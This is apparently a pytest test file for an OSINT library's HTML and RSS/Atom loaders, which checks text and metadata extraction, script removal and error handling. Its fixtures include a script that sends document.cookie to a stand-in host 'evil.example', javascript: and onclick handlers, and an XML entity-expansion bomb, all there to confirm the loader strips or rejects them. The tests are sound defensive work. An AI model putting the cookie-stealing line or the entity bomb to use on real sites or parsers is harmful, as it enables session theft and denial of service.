"""Saved HTML pages (trafilatura) and RSS/Atom feeds (feedparser)."""

from __future__ import annotations

from pathlib import Path

import pytest

from osintkit import load
from osintkit.errors import EmptyInputError, MalformedInputError

PARAGRAPH = (
    "Ukrainian President Volodymyr Zelenskyy announced on Saturday that his country has taken two wounded North "
    "Korean soldiers from the Kursk region of Russia and taken them to Kyiv for questioning by the security service. "
)

PAGE = f"""<!DOCTYPE html>
<html lang="en-GB"><head>
<title>Soldiers captured | Example News</title>
<meta name="author" content="Jane Doe">
<meta property="og:site_name" content="Example News">
<meta property="article:published_time" content="2025-01-11T18:30:00+02:00">
<script>document.location = "https://evil.example/?c=" + document.cookie;</script>
</head><body>
<nav><a href="/">Home</a> <a href="javascript:alert(1)">Menu</a></nav>
<article><h1>Two North Korean soldiers captured</h1>
<p>{PARAGRAPH}</p><script>window.stolen = true; var MARKER_SCRIPT_TEXT = 1;</script>
<p>{PARAGRAPH.replace("Saturday", "Sunday")}</p>
<p onclick="steal()">The force deployment has not been formally recognized by North Korea or Russia.</p>
</article><footer>Copyright Example News</footer></body></html>
"""


def test_html_main_text_and_metadata(tmp_path: Path) -> None:
    p = tmp_path / "page.html"
    p.write_text(PAGE, "utf-8")
    (doc,) = load(p, on_error="raise")
    assert doc.loader == "html"
    assert "wounded North Korean soldiers" in doc.text
    assert "MARKER_SCRIPT_TEXT" not in doc.text and "document.cookie" not in doc.text
    assert doc.title and "North Korean soldiers" in doc.title
    assert doc.author == "Jane Doe"
    assert doc.source == "Example News"
    assert doc.published == "2025-01-11T16:30:00Z"
    assert doc.language == "en"
    warnings = " ".join(doc.meta["warnings"])
    assert "2 <script> element(s)" in warnings and "never executed" in warnings
    assert doc.meta["scripts_removed"] == 2


def test_html_without_article_falls_back_to_visible_text(tmp_path: Path) -> None:
    p = tmp_path / "tiny.htm"
    p.write_text("<html><head><title>Tiny</title><style>p{}</style></head><body><p>Hi.</p></body></html>", "utf-8")
    (doc,) = load(p, on_error="raise")
    assert "Hi." in doc.text and "p{}" not in doc.text


def test_html_with_only_scripts_is_empty(tmp_path: Path) -> None:
    p = tmp_path / "js.html"
    p.write_text("<html><body><script>alert('x')</script></body></html>", "utf-8")
    with pytest.raises(EmptyInputError, match=r"js\.html"):
        load(p, on_error="raise")


RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Example Feed</title><link>https://example.org/</link><language>en-us</language>
<item><title>First &amp; foremost</title><link>https://example.org/1</link><guid>id-1</guid>
<pubDate>Sat, 11 Jan 2025 10:00:00 +0200</pubDate><author>desk@example.org (Desk)</author>
<description>&lt;p&gt;Troops were seen &lt;b&gt;near&lt;/b&gt; Kursk.&lt;/p&gt;
&lt;script&gt;alert(1)&lt;/script&gt;</description></item>
<item><title>Second</title><link>https://example.org/2</link>
<description>More news from the front line today.</description></item>
<item><title></title><description></description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom Source</title><id>urn:x</id>
<updated>2025-01-12T00:00:00Z</updated>
<entry><title>Atom entry</title><id>urn:x:1</id><link href="https://example.org/a1"/>
<updated>2025-01-12T08:00:00Z</updated><author><name>Reporter</name></author>
<content type="html">&lt;p&gt;Atom body text about the capture.&lt;/p&gt;</content></entry>
</feed>"""


def test_rss_one_document_per_entry(tmp_path: Path) -> None:
    p = tmp_path / "news.rss"
    p.write_text(RSS, "utf-8")
    result = load(p)
    assert len(result) == 2
    first, second = result
    assert first.loader == "feed"
    assert first.title == "First & foremost"
    assert first.text == "Troops were seen near Kursk."
    assert first.source == "Example Feed" and first.url == "https://example.org/1"
    assert first.published == "2025-01-11T08:00:00Z"
    assert first.language == "en"
    assert first.id != second.id
    assert first.meta["file_sha256"]
    assert len(result.skipped) == 1 and "no text" in result.skipped[0].reason


def test_atom(tmp_path: Path) -> None:
    p = tmp_path / "feed.atom"
    p.write_text(ATOM, "utf-8")
    (doc,) = load(p, on_error="raise")
    assert doc.text == "Atom body text about the capture."
    assert (doc.author, doc.source, doc.published) == ("Reporter", "Atom Source", "2025-01-12T08:00:00Z")


def test_bozo_feed_recovers_with_warning_or_fails_clearly(tmp_path: Path) -> None:
    truncated = tmp_path / "truncated.xml"
    truncated.write_text(
        '<?xml version="1.0"?>\n<rss><channel><title>T</title>\n<item><title>Kept entry</title></item>\n<item><ti',
        "utf-8",
    )
    (doc,) = load(truncated, on_error="raise")
    assert doc.text == "Kept entry"
    assert any("not well-formed" in w for w in doc.meta["warnings"])
    broken = tmp_path / "broken.xml"
    broken.write_text("<?xml version='1.0'?>\n<notafeed><<>>\n", "utf-8")
    with pytest.raises(MalformedInputError, match=r"broken\.xml"):
        load(broken, on_error="raise")


def test_feed_without_entries_is_empty(tmp_path: Path) -> None:
    p = tmp_path / "none.rss"
    p.write_text('<rss version="2.0"><channel><title>Nothing</title></channel></rss>', "utf-8")
    with pytest.raises(EmptyInputError, match="no entries"):
        load(p, on_error="raise")


def test_feed_never_fetches(tmp_path: Path) -> None:
    # A body that is itself a URL: given a string, feedparser would fetch it; we hand it bytes, so it cannot.
    p = tmp_path / "url.rss"
    p.write_text("http://192.0.2.1/feed.xml", "utf-8")
    with pytest.raises(MalformedInputError):
        load(p, on_error="raise")


def test_feed_entity_declarations_are_refused(tmp_path: Path) -> None:
    p = tmp_path / "bomb.rss"
    p.write_text(
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        "<rss><channel><item><title>&b;</title></item></channel></rss>",
        "utf-8",
    )
    with pytest.raises(MalformedInputError, match="entities"):
        load(p, on_error="raise")
